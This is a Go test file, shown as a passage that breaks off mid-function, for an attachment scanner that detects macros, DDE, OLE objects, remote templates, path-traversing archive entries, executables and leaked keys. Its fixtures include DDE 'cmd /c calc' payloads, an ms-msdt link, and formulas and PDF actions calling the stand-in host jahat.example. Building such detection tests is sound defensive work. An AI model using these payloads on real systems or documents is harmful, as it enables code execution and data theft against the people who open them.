package attachment

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io/fs"
	"strings"
	"testing"
	"unicode/utf16"
)

// packedTar makes an archive of tar, compressed, of names and contents in turn.
func packedTar(t *testing.T, link string, parts ...string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	if link != "" {
		if err := w.WriteHeader(&tar.Header{Name: "a", Typeflag: tar.TypeSymlink, Linkname: link}); err != nil {
			t.Fatal(err)
		}
	}
	for i := 0; i < len(parts); i += 2 {
		h := &tar.Header{Name: parts[i], Mode: 0o644, Size: int64(len(parts[i+1]))}
		if err := w.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(parts[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func gzipped(t *testing.T, text string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := z.Write([]byte(text)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// linked is an archive with a symbolic link.
func linked(t *testing.T) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	h := &zip.FileHeader{Name: "a"}
	h.SetMode(fs.ModeSymlink | 0o777)
	w, err := z.CreateHeader(h)
	if err == nil {
		_, err = w.Write([]byte("/etc/passwd"))
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// commented is an archive with a comment, as git archive writes it.
func commented(t *testing.T, comment string) string {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	if err := z.SetComment(comment); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// rels makes the relations of a part, each of its type and target.
func rels(mode, kind, target string) string {
	return fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships `+
		`xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship `+
		`Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" `+
		`Target="%s" %s/></Relationships>`, kind, target, mode)
}

const external = `TargetMode="External"`

// TestTable holds files of all containers to the table: what is refused in them, what the editor
// is warned of, and what is like them and is neither. Does begins with a question mark for a
// warning.
func TestTable(t *testing.T) {
	docx := func(parts ...string) string {
		return string(archive(t, append([]string{"word/document.xml", "<w:document><w:p/></w:document>"}, parts...)...))
	}
	body := func(xml string) string {
		return string(archive(t, "word/document.xml", "<w:document><w:body>"+xml+"</w:body></w:document>"))
	}
	field := func(codes ...string) string {
		return body(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` +
			strings.Join(codes, `</w:instrText></w:r><w:r><w:instrText>`) +
			`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
	}
	xlsx := func(parts ...string) string {
		return string(archive(t, append([]string{"xl/workbook.xml", "<workbook/>"}, parts...)...))
	}
	cell := func(formula string) string {
		return xlsx("xl/worksheets/sheet1.xml", `<worksheet><sheetData><row><c r="A1"><f>`+formula+
			`</f><v>1</v></c></row></sheetData></worksheet>`)
	}
	ods := func(content string, parts ...string) string {
		const spaces = `xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:table="t" xmlns:script="s" xmlns:presentation="p" xmlns:draw="d" xmlns:text="x"`
		return string(archive(t, append([]string{"mimetype", "application/vnd.oasis.opendocument.spreadsheet",
			"content.xml", "<office:document-content " + spaces + ">" + content + "</office:document-content>"}, parts...)...))
	}
	zipped := func(parts ...string) string { return string(archive(t, parts...)) }
	link := func(action string) string { return string(pdfOf("", "/Annots [<< /Subtype /Link /A "+action+" >>]")) }
	for _, tt := range []struct{ name, file, src, does string }{
		// OOXML
		{"macros", "a.docx", docx("word/vbaProject.bin", "x"), Macro},
		{"macros of a workbook", "a.xlsx", xlsx("xl/vbaProject.bin", "x"), Macro},
		{"macros under another name", "a.docx", docx("word/_rels/document.xml.rels", rels("", "../../2006/relationships/vbaProject", "hiasan.dat")), Macro},
		{"macros by the type of a part", "a.docx", docx("[Content_Types].xml", `<Types xmlns="x"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`), Macro},
		{"an ending for macros", "a.docm", docx(), Macro},
		{"macros of Excel 4", "a.xlsx", xlsx("xl/macrosheets/sheet1.xml", "<a/>"), Macro},
		{"macros of Excel 4 by their relation", "a.xlsx", xlsx("xl/_rels/workbook.xml.rels", rels("", "xlMacrosheet", "lembar.xml")), Macro},
		{"toolbars", "a.docx", docx("word/attachedToolbars.bin", "x"), Macro},
		{"a ribbon", "a.docx", docx("customUI/customUI14.xml", "<customUI/>"), Control},
		{"a control", "a.docx", docx("word/activeX/activeX1.xml", "<ax:ocx/>"), Control},
		{"an add-in", "a.xlsx", xlsx("_rels/.rels", rels("", "webextensiontaskpanes", "x/taskpanes.xml")), Control},
		{"an object", "a.docx", docx("word/embeddings/oleObject1.bin", "x"), Object},
		{"an object under another name", "a.pptx", zipped("ppt/presentation.xml", "<p/>", "ppt/media/image1.png", compoundOf("Root Entry", "\x01Ole10Native")), Object},
		{"an object in the text", "a.docx", body(`<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object></w:r></w:p>`), Object},
		{"an object on a slide", "a.pptx", zipped("ppt/slides/slide1.xml", `<p:sld><p:oleObj progId="Package"/></p:sld>`), Object},
		{"an object elsewhere", "a.docx", docx("word/_rels/document.xml.rels", rels(external, "oleObject", "https://jahat.example/a.html!")), Object},
		{"a frame", "a.docx", docx("word/_rels/webSettings.xml.rels", rels(external, "frame", "https://jahat.example/")), Object},
		{"a page in a letter", "a.docx", docx("word/_rels/document.xml.rels", rels("", "aFChunk", "afchunk.mht")), Object},
		{"a template elsewhere", "a.docx", docx("word/_rels/settings.xml.rels", rels(external, "attachedTemplate", "https://jahat.example/a.dotm")), Template},
		{"a template of another computer", "a.docx", docx("word/_rels/settings.xml.rels", rels(external, "attachedTemplate", `file:///\\10.0.0.1\berbagi\a.dotm`)), Template},
		{"a template of another computer, by slashes", "a.docx", docx("word/_rels/settings.xml.rels", rels(external, "attachedTemplate", "//10.0.0.1/a.dotm")), Template},
		{"a template of the writer", "a.docx", docx("word/_rels/settings.xml.rels", rels(external, "attachedTemplate", `file:///C:\Users\Siti\Surat%20Dinas.dotx`)), "?" + Linked},
		{"a link", "a.docx", docx("word/_rels/document.xml.rels", rels(external, "hyperlink", "https://contoh.go.id/")), ""},
		{"a link that is a script", "a.docx", docx("word/_rels/document.xml.rels", rels(external, "hyperlink", "java&#9;script:alert(1)")), Script},
		{"a link that starts a program", "a.docx", docx("word/_rels/document.xml.rels", rels(external, "hyperlink", "ms-msdt:/id PCWDiagnostic")), Program},
		{"a picture elsewhere", "a.docx", docx("word/_rels/document.xml.rels", rels(external, "image", "https://contoh.go.id/a.png")), "?" + Linked},
		{"relations in UTF-16", "a.docx", docx("word/_rels/settings.xml.rels", wide(rels(external, "attachedTemplate", "http://x/a.dotm"))), Template},
		{"other workbooks", "a.xlsx", xlsx("xl/_rels/workbook.xml.rels", rels("", "externalLink", "externalLinks/externalLink1.xml")), "?" + Linked},
		{"a question to another program", "a.xlsx", xlsx("xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), DDE},
		{"a database", "a.xlsx", xlsx("xl/_rels/workbook.xml.rels", rels("", "connections", "connections.xml")), Database},
		{"a letter to many", "a.docx", docx("word/_rels/settings.xml.rels", rels(external, "mailMergeSource", "file:///C:/data.xlsx")), Database},
		{"a button that starts a program", "a.pptx", zipped("ppt/slides/slide1.xml", `<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>`), Program},
		{"a button that turns the page", "a.pptx", zipped("ppt/slides/slide1.xml", `<p:sld><a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></p:sld>`), ""},
		{"a chart with its workbook", "a.docx", docx("word/embeddings/Microsoft_Excel_Sheet1.xlsx", xlsx()), ""},
		{"a chart whose workbook has macros", "a.docx", docx("word/embeddings/Microsoft_Excel_Sheet1.xlsx", xlsx("xl/vbaProject.bin", "x")), Macro},
		{"settings of a printer", "a.xlsx", xlsx("xl/printerSettings/printerSettings1.bin", "\x00Canon"), ""},
		{"a drawing that is not well-formed", "a.xlsx", xlsx("xl/drawings/vmlDrawing1.vml", "<xml><br>"), ""},
		{"a program as a picture", "a.docx", docx("word/media/image1.png", "MZ\x90\x00\x03\x00"), Program},
		// fields
		{"a field that asks", "a.docx", field(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" `), DDE},
		{"a field in pieces", "a.docx", field(" DD", "EAU", "TO cmd"), DDE},
		{"a field in quotation marks", "a.docx", field(` "DDE" cmd`), DDE},
		{"a field inside another", "a.docx", field(` IF 1 = 1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>dde cmd`), DDE},
		{"a field made by another", "a.docx", body(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r></w:p>`), DDE},
		{"a simple field", "a.docx", body(`<w:p><w:fldSimple w:instr=" DDE Excel a "/></w:p>`), DDE},
		{"a linked sheet", "a.docx", field(" LINK Excel.Sheet.12 C:\\a.xlsx"), Object},
		{"a text of elsewhere", "a.docx", field(" INCLUDETEXT https://jahat.example/a"), "?" + Linked},
		{"the number of the page", "a.docx", field(" PAGE "), ""},
		{"the abbreviation in the text", "a.docx", body("<w:p><w:r><w:t>DDE cmd</w:t></w:r></w:p>"), ""},
		// formulas
		{"a formula that asks", "a.xlsx", cell("cmd|'/c calc'!A0"), DDE},
		{"a formula of macros", "a.xlsx", cell(`CALL(&quot;kernel32&quot;,&quot;WinExec&quot;)`), Macro},
		{"a formula that tells", "a.xlsx", cell(`_xlfn.WEBSERVICE(&quot;https://jahat.example&quot;)`), "?" + Linked},
		{"a formula", "a.xlsx", cell(`IF(A1&gt;1,"CALL(x)",SUM(A1:A9))`), ""},
		{"a formula in a name", "a.xlsx", string(archive(t, "xl/workbook.xml", `<workbook><definedNames><definedName name="a">EXEC("calc")</definedName></definedNames></workbook>`)), Macro},
		{"a table of text that asks", "a.csv", "no,nama\n1,=cmd|' /C calc'!A0\n", DDE},
		{"a table of text that asks, by a plus", "a.csv", "no;nama\n1;+cmd|' /C calc'!A0\n", DDE},
		{"a table of tabs that asks", "a.tsv", "no\tnama\n1\t@SUM(1+1)*cmd|' /C calc'!A0\n", DDE},
		{"a table of tabs", "a.tsv", "no\tnama\n1\t=cmd|' /C calc'!A0\n", DDE},
		{"a table that tells", "a.csv", "a\n\"=IMPORTXML(\"\"https://jahat.example\"\",\"\"//a\"\")\"\n", "?" + Linked},
		{"numbers", "a.csv", "a,b\n-5,+62 812\n- satu | dua!,@kpu\n", ""},
		// ODF
		{"macros of an ODF", "a.ods", ods("", "Basic/Standard/Module1.xml", "<a/>"), Macro},
		{"scripts of an ODF", "a.odt", ods("", "Scripts/python/a.py", "x"), Macro},
		{"an event", "a.odt", ods(`<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b?language=Basic"/></office:event-listeners>`), Macro},
		{"an event of a slide", "a.odp", ods(`<presentation:event-listener presentation:action="execute"/>`), Macro},
		{"the next slide", "a.odp", ods(`<presentation:event-listener presentation:action="next-page"/>`), ""},
		{"no script", "a.ods", ods(`<office:scripts/>`), ""},
		{"a script", "a.odt", ods(`<text:script script:language="JavaScript">x</text:script>`), Macro},
		{"a link to a macro", "a.odt", ods(`<text:a xlink:href="macro:///Standard.a.b"/>`), Macro},
		{"a question of an ODF", "a.ods", ods(`<table:dde-link><office:dde-source office:dde-application="soffice"/></table:dde-link>`), DDE},
		{"a formula of an ODF that asks", "a.ods", ods(`<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)"/>`), DDE},
		{"a formula of an ODF", "a.ods", ods(`<table:table-cell table:formula="of:=SUM([.A1:.A9])"/>`), ""},
		{"an object of OLE", "a.odt", ods("", "Object 1", compoundOf("Root Entry", "\x01Ole10Native")), Object},
		{"an object in the text of an ODF", "a.odt", ods(`<draw:object-ole xlink:href="./Object 1"/>`), Object},
		{"a chart", "a.ods", ods(`<draw:object xlink:href="./Object 1"/>`, "Object 1/content.xml", "<a/>"), ""},
		{"a chart with a macro", "a.ods", ods("", "Object 1/content.xml", `<a xmlns:script="s"><script:event-listener/></a>`), Macro},
		{"a plugin", "a.odt", ods("<draw:plugin/>"), Control},
		{"a section of elsewhere", "a.odt", ods(`<text:section-source xlink:href="https://jahat.example"/>`), "?" + Linked},
		{"a flat ODF with macros", "a.fodt", `<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded><ooo:module/></ooo:library-embedded></ooo:libraries></office:script></office:scripts></office:document>`, Macro},
		{"a flat ODF as LibreOffice writes it", "a.fodt", `<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:scripts><office:script script:language="ooo:Basic"> <ooo:libraries><ooo:library-embedded ooo:name="Standard"/></ooo:libraries></office:script></office:scripts></office:document>`, ""},
		{"a library elsewhere", "a.fodt", `<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:script><ooo:libraries><ooo:library-linked xlink:href="a"/></ooo:libraries></office:script></office:document>`, Macro},
		{"a script elsewhere", "a.odt", ods(`<text:script xlink:href="a.js"/>`), Macro},
		{"data", "a.xml", `<!DOCTYPE data SYSTEM "data.dtd"><data/>`, ""},
		{"a page by what it declares", "a.xml", `<!DOCTYPE r [<!ATTLIST script xmlns CDATA #FIXED "http://www.w3.org/1999/xhtml">]><r><script>x</script></r>`, Page},
		{"a formula that is a link", "a.xml", `<r><math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:x">a</mi></math></r>`, Page},
		{"macros of Word 2003", "a.xml", `<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes"/>`, Macro},
		// OLE
		{"an old letter", "a.doc", compoundOf("Root Entry", "WordDocument|isi DDE", "1Table"), ""},
		{"an old letter with macros", "a.doc", compoundOf("Root Entry", "WordDocument|x", "Macros", "VBA", "_VBA_PROJECT"), Macro},
		{"an old workbook with macros", "a.xls", compoundOf("Root Entry", "Workbook|x", "_VBA_PROJECT_CUR"), Macro},
		{"an old letter with an object", "a.doc", compoundOf("Root Entry", "ObjectPool", "\x01Ole10Native"), Object},
		{"a formula editor", "a.doc", compoundOf("Root Entry", "Equation Native"), Object},
		{"an old letter that asks", "a.doc", compoundOf("Root Entry", "WordDocument|text\x13 DDEAUTO cmd \x14"), DDE},
		{"an old letter that asks, in two bytes", "a.doc", compoundOf("Root Entry", "WordDocument|"+"\x13\x00 \x00D\x00D\x00E\x00 \x00c\x00"), DDE},
		{"an old letter that asks, far in", "a.doc", compoundOf("Root Entry", "WordDocument|"+strings.Repeat("x", 5000)+"\x13 DDEAUTO cmd \x14"), DDE},
		{"sheets of macros", "a.xls", compoundOf("Root Entry", "Workbook|"+book(biff(recordSheet, "\x00\x00\x00\x00\x00\x01\x01\x00a"))), Macro},
		{"modules of BASIC", "a.xls", compoundOf("Root Entry", "Book|"+book(biff(recordSheet, "\x00\x00\x00\x00\x00\x06\x01\x00a"))), Macro},
		{"sheets", "a.xls", compoundOf("Root Entry", "Workbook|"+book(biff(recordSheet, "\x00\x00\x00\x00\x00\x00\x01\x00a"))+book("")+"\x00\x00"), ""},
		{"an old workbook that asks", "a.xls", compoundOf("Root Entry", "Workbook|"+book(biff(recordLink, "\x00\x00\x06\x00cmd\x03/c calc"))), DDE},
		{"slides with macros", "a.ppt", compoundOf("Root Entry", "PowerPoint Document|"+atom(15, 1000, atom(15, 0x3ff, atom(2, 0x400, "abcdefghijkl")))), Macro},
		{"slides with an object", "a.ppt", compoundOf("Root Entry", "PowerPoint Document|"+atom(15, 1000, atom(15, 0xfcc, ""))), Object},
		{"slides with an object behind what is cut off", "a.ppt", compoundOf("Root Entry", "PowerPoint Document|"+atom(15, 1000, "")+"\x0f\x00\xe8\x03\xff\xff\xff\xff"+atom(15, 0xfce, "")), Object},
		{"slides", "a.ppt", compoundOf("Root Entry", "PowerPoint Document|"+atom(15, 1000, atom(0, 1001, "abcd"))), ""},
		// PDF
		{"a form that is sent", "a.pdf", link("<< /S /SubmitForm /F (https://jahat.example) >>"), Action},
		{"another file", "a.pdf", link("<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>"), "?" + Linked},
		{"a file in the file", "a.pdf", link("<< /S /GoToE /D [0 /Fit] >>"), Action},
		{"an address that is a script", "a.pdf", link("<< /S /URI /URI (javascript:alert\\(1\\)) >>"), Script},
		{"the same in an object stream", "a.pdf", string(pdfOf("", "", objectStream("4 0 << /S /U#52I /URI <6A617661736372697074 3A> >>"))), Script},
		{"a form that is sent, in an object stream", "a.pdf", string(pdfOf("", "", objectStream("4 0 << /S /Submit#46orm >>"))), Action},
		{"an address", "a.pdf", link("<< /S /URI /URI (https://contoh.go.id/javascript:) >>"), ""},
		{"a portfolio", "a.pdf", string(pdfOf("/Collection << /View /T >>", "")), Embedded},
		// RTF
		{"a text with marks", "a.rtf", `{\rtf1\ansi Isi \'e9 \\object DDE\par}`, ""},
		{"an object in it", "a.rtf", `{\rtf1{\object\objemb{\*\objdata 0105}}}`, Object},
		{"a template of it", "a.rtf", `{\rtf1{\*\template http://jahat.example/a.dotm}}`, Template},
		{"a field of it", "a.rtf", `{\rtf1{\field{\*\fldinst {\f1 D}{D}EAUTO cmd}}}`, DDE},
		{"a field of it in numbers", "a.rtf", `{\rtf1{\field{\*\fldinst \'44\'44E cmd}}}`, DDE},
		{"a field of it in numbers of Unicode", "a.rtf", `{\rtf1{\field{\*\fldinst \u68?\u68\'3fEAUTO cmd}}}`, DDE},
		{"a field of it in such numbers alone", "a.rtf", `{\rtf1\uc1{\field{\*\fldinst \uc0\u68 \u68 \u69 AUTO cmd}}}`, DDE},
		{"a field of it with a number below nought", "a.rtf", `{\rtf1{\field{\*\fldinst \u-65468?DEAUTO cmd}}}`, DDE},
		{"a field of it between words", "a.rtf", "{\\rtf1{\\field{\\*\\fldinst \\b0 DD\r\n\\i-1 E{\\ul AUTO} cmd}}}", DDE},
		{"a field of it for older readers", "a.rtf", `{\rtf1{\field{\*\fldinst \uc9\u32 DDEAUTO cmd}}}`, DDE},
		{"a field of another name", "a.rtf", `{\rtf1{\field{\*\fldinst \uc2\u68 XXDEXAUTO}}}`, ""},
		{"a link of it", "a.rtf", `{\rtf1{\field{\*\fldinst HYPERLINK "https://contoh.go.id"}{\fldrslt x}}}`, ""},
		{"raw bytes", "a.rtf", `{\rtf1{\pict\bin4 abcd}}`, Object},
		// archives
		{"a page in an archive", "a.zip", zipped("map/a.html", "<script>alert(1)</script>"), Page},
		{"a drawing in an archive", "a.zip", zipped("a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`), ""},
		{"a drawing that runs", "a.zip", zipped("a.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>`), Page},
		{"a script in an archive", "a.zip", zipped("a.php", "<?php"), Page},
		{"a program in an archive", "a.zip", zipped("setup.exe", "MZ"), Program},
		{"a program under another name", "a.zip", zipped("surat.pdf", "MZ\x90\x00\x03"), Program},
		{"a letter with macros", "a.zip", zipped("a.docx", docx("word/vbaProject.bin", "x")), Macro},
		{"a name that climbs", "a.zip", zipped("../a.txt", "x"), Climbing},
		{"a name that climbs later", "a.zip", zipped(`a\..\..\b.txt`, "x"), Climbing},
		{"a name from the top", "a.zip", zipped("/etc/a.txt", "x"), Climbing},
		{"a name of a drive", "a.zip", zipped(`C:\a.txt`, "x"), Climbing},
		{"a symbolic link", "a.zip", linked(t), Climbing},
		{"two dots in a name", "a.zip", zipped("a..b/c...txt", "x"), ""},
		{"an archive in an archive", "a.zip", zipped("b.ZIP", "x"), Nested},
		{"a tar in an archive", "a.zip", zipped("b.tar.gz", "x"), Nested},
		{"a repository", "a.zip", zipped("situs/.git/config", "x"), History},
		{"a repository of Subversion", "a.zip", zipped("situs/.svn/wc.db", "x"), History},
		{"a bare repository", "a.zip", zipped("r.x/HEAD", "x", "r.x/config", "x", "r.x/objects/", ""), History},
		{"the files of a repository", "a.zip", commented(t, strings.Repeat("0a", 20)), "?" + Export},
		{"a comment", "a.zip", commented(t, "dibuat dengan 7-Zip"), ""},
		{"settings with passwords", "a.zip", zipped("situs/.env", "APP_KEY=x"), Key},
		{"keys of SSH", "a.zip", zipped(".ssh/known_hosts", "x"), Key},
		{"a tar", "a.tar.gz", packedTar(t, "", "a.txt", "x"), ""},
		{"a tar that climbs", "a.tgz", packedTar(t, "", "../a.txt", "x"), Climbing},
		{"a tar with a link", "a.tgz", packedTar(t, "../../etc", "a.txt", "x"), Climbing},
		{"a tar with a page", "a.tgz", packedTar(t, "", "a.html", "<script>"), Page},
		{"a tar with a repository", "a.tar.gz", packedTar(t, "", "x/.git/HEAD", "x"), History},
		{"an archive by its bytes", "a.pdf", "Rar!\x1a\x07\x00", Sealed},
		// letters
		{"a letter", "a.eml", "From: a@contoh.go.id\r\nContent-Type: text/plain\r\n\r\nIsi\r\n", ""},
		{"a letter with a program", "a.eml", "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Disposition: attachment; filename=a.exe\r\n\r\nx\r\n--b--\r\n", Program},
		{"a letter with a program, its name encoded", "a.eml", "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Disposition: attachment;\r\n filename=\"=?UTF-8?B?YS5leGU=?=\"\r\n\r\nx\r\n--b--\r\n", Program},
		{"a letter with a program, its name in pieces", "a.eml", "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/x; name=\"=?windows-1252?Q?surat=2E?=\r\n =?iso-8859-1?Q?exe?=\"\r\n\r\nx\r\n--b--\r\n", Program},
		{"a letter with macros in it", "a.eml", "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/x; name=\"a.docx\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(docx("word/vbaProject.bin", "x"))) + "\r\n--b--\r\n", Macro},
		// programs by their bytes
		{"a program of Windows", "a.dwg", "MZ\x90\x00\x03\x00", Program},
		{"a program of Linux", "data", "\x7fELF\x02", Program},
		{"a script by its first line", "data.txt", "#!/bin/sh\n", Program},
		{"a text that begins so", "a.txt", "MZ adalah singkatan", ""},
		{"a shortcut", "a.dwg", "L\x00\x00\x00\x01\x14\x02\x00", Program},
		// secrets
		{"a key", "a.txt", "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n", Key},
		{"a key of OpenSSH", "catatan", "-----BEGIN OPENSSH PRIVATE KEY-----\n", Key},
		{"a key of PuTTY", "a.txt", "PuTTY-User-Key-File-3: ssh-ed25519\n", Key},
		{"a certificate", "a.pem", "-----BEGIN CERTIFICATE-----\nMIIE\n", ""},
		{"a public key", "a.pem", "-----BEGIN PUBLIC KEY-----\nMIIE\n", ""},
		{"a JSON Web Key", "a.json", `{"kty":"EC","x":"a","d":"870MB6gfuTJ4HtUnUvYMyJpr5eUZNP4Bk43bVdj3eAE"}`, Key},
		{"a public JSON Web Key", "a.json", `{"kty":"EC","crv":"P-256","x":"MKBCTNIcKUSDii11ySs3526iDZ8AiTo7Tu6KPAqv7D4"}`, ""},
		{"a key of AWS", "a.csv", "user,key\na,AKIAIOSFODNN7EXAMPLE\n", Key},
		{"a key of the log", "a.md", "PRIVATE+KEY+contoh.go.id+0a1b2c3d+AXyz\n", Key},
		{"a key in a letter", "a.docx", body(paragraph("-----BEGIN PRIV", "ATE KEY-----")), Key},
		{"a key in an archive", "a.zip", zipped("a/kunci.txt", "-----BEGIN EC PRIVATE KEY-----"), Key},
		{"a key in a configuration", "a.yaml", "client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQ==", Key},
		{"a key in a picture", "a.png", "\x89PNG\r\n\x1a\n-----BEGIN PRIVATE KEY-----", Key},
		{"a dump of MySQL", "a.txt", "-- MySQL dump 10.13\n", Dump},
		{"a dump of PostgreSQL", "data.dwg", "--\n-- PostgreSQL database dump\n--\n", Dump},
		{"a dump in the form of PostgreSQL", "data.dwg", "PGDMP\x01", Dump},
		{"a database of SQLite", "a.dat", "SQLite format 3\x00", Dump},
		{"a GeoPackage", "a.gpkg", "SQLite format 3\x00", ""},
		{"a dump by its ending", "cadangan.sql", "x", Dump},
		{"a dump that is compressed", "a.gz", gzipped(t, "-- MariaDB dump 10.19\n"), Dump},
		{"a dump that is compressed, by its ending", "a.sql.gz", gzipped(t, "x"), Dump},
		{"rows", "a.txt", "INSERT INTO `pemilih` (`nik`) VALUES ('1');\n", Dump},
		{"a text about rows", "a.txt", "INSERT INTO adalah perintah SQL.\n", ""},
		{"a bundle of Git", "a.dat", "# v2 git bundle\n", History},
		{"a text that is compressed", "a.txt.gz", gzipped(t, "Isi"), ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := Read(tt.file, []byte(tt.src), discard)
			does := got.Does
			if does == "" && len(got.Warnings) > 0 {
				does = "?" + got.Warnings[0].Does
			}
			if does != tt.does {
				t.Fatalf("%q, want %q: %+v", does, tt.does, got)
			}
			refused := got.Problem == Active || got.Problem == Secret
			if refused != (got.Does != "") || !refused && got.Problem != None && got.Problem != Unseen {
				t.Errorf("%+v", got)
			}
		})
	}
}

// wide writes a text in UTF-16 with a byte order mark.
func wide(text string) string {
	b := []byte("\xff\xfe")
	for _, u := range utf16.Encode([]rune(text)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

// TestInert holds which pages and drawings run nothing and fetch nothing.
func TestInert(t *testing.T) {
	svg := func(body string) string {
		return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">` + body + `</svg>`
	}
	for _, tt := range []struct {
		name, file, src string
		want            bool
	}{
		{"a proof of a search engine", "a.html", "google-site-verification: google0.html", true},
		{"a plain page", "a.html", "<!doctype html>\n<html lang=\"id\"><head><meta charset=\"utf-8\"></head><body><p>Isi &amp; <a href=\"https://contoh.go.id/\">tautan</a></p></body></html>", true},
		{"a script", "a.html", "<script>alert(1)</script>", false},
		{"a handler", "a.html", `<p onclick="x">`, false},
		{"a link that is a script", "a.html", `<a href="javascript:x">`, false},
		{"a link that is a script by numbers", "a.html", `<a href="&#106;avascript:x">`, false},
		{"another page", "a.html", `<meta http-equiv="refresh" content="0;url=https://jahat.example">`, false},
		{"a frame", "a.html", `<iframe src="/"></iframe>`, false},
		{"a form", "a.html", `<form action="https://jahat.example">`, false},
		{"a comment", "a.html", `<!-- <p> -->`, false},
		{"a tag that does not end", "a.html", `<p`, false},
		{"a value without quotation marks", "a.html", `<p class=x onclick=y>`, false},
		{"a script of JavaScript", "a.js", `x`, false},
		{"shapes", "a.svg", svg(`<defs><linearGradient id="a"/></defs><path d="M0 0" fill="url(#a)" style="stroke:#000"/><use xlink:href="#a"/>`), true},
		{"a declaration", "a.svg", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + svg(""), true},
		{"entities", "a.svg", `<!DOCTYPE svg [<!ENTITY a "b">]>` + svg(""), false},
		{"a script in a drawing", "a.svg", svg("<script>x</script>"), false},
		{"a handler in a drawing", "a.svg", svg(`<path onmouseover="x"/>`), false},
		{"an animation", "a.svg", svg(`<a><set attributeName="href" to="javascript:x"/></a>`), false},
		{"a page in a drawing", "a.svg", svg(`<foreignObject/>`), false},
		{"a drawing elsewhere", "a.svg", svg(`<use href="https://jahat.example/a.svg#a"/>`), false},
		{"a picture elsewhere", "a.svg", svg(`<image xlink:href="https://jahat.example/a.png"/>`), false},
		{"a picture in a drawing", "a.svg", svg(`<image xlink:href="data:image/png;base64,AA"/>`), true},
		{"a style that fetches", "a.svg", svg(`<style>@import "https://jahat.example"</style>`), false},
		{"a style that fetches a picture", "a.svg", svg(`<path style="fill:url( 'https://jahat.example')"/>`), false},
		{"a style in pieces of elements", "a.svg", svg(`<style><g/>@import "https://jahat.example"</style>`), false},
		{"a style in pieces of comments", "a.svg", svg(`<style>@imp<!-- -->ort "https://jahat.example"</style>`), false},
		{"a style in pieces of character data", "a.svg", svg(`<style>@im<![CDATA[port "https://jahat.example"]]></style>`), false},
		{"a style of pictures", "a.svg", svg(`<path style='mask-image:image-set("https://jahat.example" 1x)'/>`), false},
		{"a style of pictures, as it was", "a.svg", svg(`<style>svg{background:-webkit-image-set("https://jahat.example" 1x)}</style>`), false},
		{"a style of fonts", "a.svg", svg(`<style>@font-face{font-family:a;src:src("https://jahat.example")}</style>`), false},
		{"a style of colours", "a.svg", svg(`<style type="text/css"><![CDATA[.a{fill:#fff}]]></style><style>.b{clip-path:url(#a)}</style>`), true},
		{"an element of a page", "a.svg", svg(`<script xmlns="http://www.w3.org/1999/xhtml"/>`), false},
		{"no drawing", "a.svg", "x", false},
	} {
